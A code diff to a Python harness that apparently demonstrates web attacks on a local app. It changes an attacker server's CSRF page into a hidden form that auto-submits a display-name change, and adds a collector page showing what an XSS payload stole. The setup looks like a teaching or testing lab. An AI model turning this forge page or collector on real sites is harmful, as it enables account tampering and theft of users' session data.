@@ -35,6 +35,7 @@ attacks, each returning what happened and a screenshot.
 from __future__ import annotations
 
 import collections
+import html
 import json
 import secrets
 import threading
@@ -410,19 +411,22 @@ class Attacker:
 
 
 _FORGE_PAGE = """<!doctype html><meta charset="utf-8"><title>Win a prize</title>
-<body><h2>Congratulations! (an attacker's page)</h2><p id="out">sending...</p><script>
-fetch(%(target)s + "/api/me", {method: "POST", mode: "no-cors", credentials: "include",
-  headers: {"Content-Type": "application/x-www-form-urlencoded"},
-  body: "display_name=pwned-by-csrf"})
-  .then(() => { document.getElementById("out").textContent =
-    "forged POST " + %(target)s + "/api/me sent from " + location.origin; })
-  .catch(e => { document.getElementById("out").textContent = "blocked: " + e; });
-</script></body>"""
+<body><h2>Congratulations! (the attacker's page)</h2>
+<form id="f" method="POST" action=%(action)s>
+<input type="hidden" name="display_name" value="pwned-by-csrf"></form>
+<script>document.getElementById("f").submit();</script></body>"""
+_LOOT_PAGE = """<!doctype html><meta charset="utf-8"><title>Loot</title>
+<body><h2>The attacker's collector</h2><p>Received from the XSS payload:</p>
+<pre style="white-space: pre-wrap; word-break: break-all">%(loot)s</pre></body>"""
 
 
 @contextmanager
 def serve_attacker(target: str, *, host: str = "127.0.0.1") -> Iterator[Attacker]:
-    """The attacker's collector (``/collect?t=``) and CSRF page (``/forge``) aimed at ``target``."""
+    """The attacker's collector (``/collect?t=``, shown at ``/loot``) and CSRF page (``/forge``).
+
+    ``/forge`` is a page that submits a form to ``target``'s ``POST /api/me``
+    as soon as it loads: a top-level navigation, as in the classic CSRF.
+    """
     stolen: list[str] = []
 
     @Request.application
@@ -430,9 +434,13 @@ def serve_attacker(target: str, *, host: str = "127.0.0.1") -> Iterator[Attacker
         if request.path == "/collect":
             stolen.append(request.args.get("t", "")[:8192])
             return Response(b"", status=204)
-        if request.path == "/forge":
-            page = _FORGE_PAGE % {"target": json.dumps(target)}
+        if request.path == "/forge":  # a classic CSRF: a form that posts itself, top level
+            action = html.escape(json.dumps(f"{target}/api/me"), quote=False)
+            page = _FORGE_PAGE % {"action": action}
             return Response(page, content_type="text/html; charset=utf-8")
+        if request.path == "/loot":
+            loot = html.escape(stolen[-1] if stolen else "(nothing yet)")
+            return Response(_LOOT_PAGE % {"loot": loot}, content_type="text/html; charset=utf-8")
         return Response("not found", status=404)
 
     server = listen(app, host, 0)  # type: ignore[arg-type]
@@ -485,7 +493,8 @@ class Theft:
 
     mode: str
     stolen: str
-    screenshot: bytes = field(repr=False)
+    screenshot: bytes = field(repr=False)  # the app's page, payload run
+    loot: bytes = field(repr=False)  # the attacker's collector page
 
 
 def _payload(attacker: Attacker) -> str:
@@ -521,11 +530,13 @@ def steal_with_xss(browser: Any, spa: Spa, attacker: Attacker, mode: str) -> The
         while len(attacker.stolen) == before and time.monotonic() < deadline:
             page.wait_for_timeout(50)
         shot = page.screenshot()
+        page.goto(f"{attacker.url}/loot")
+        loot = page.screenshot()
     finally:
         context.close()
     if len(attacker.stolen) == before:
         raise ConfigurationError("the XSS payload did not report back within 15 s")
-    return Theft(mode, attacker.stolen[-1], shot)
+    return Theft(mode, attacker.stolen[-1], shot, loot)
 
 
 @dataclass(frozen=True)
@@ -546,11 +557,9 @@ def forge_request(browser: Any, spa: Spa, attacker: Attacker, *, cross_site: boo
         spa.names.pop("alice", None)
         spa.seen.clear()
         site = attacker.cross_site_url if cross_site else attacker.url
-        page.goto(f"{site}/forge")
-        page.wait_for_function(
-            "() => !document.getElementById('out').textContent.startsWith('sending')"
-        )
-        shot = page.screenshot()
+        with page.expect_navigation(url=f"{spa.url}/api/me"):
+            page.goto(f"{site}/forge")
+        shot = page.screenshot()  # the API's answer to the forged POST, as the browser got it
     finally:
         context.close()
     seen = spa.last("POST", "/api/me") or {}
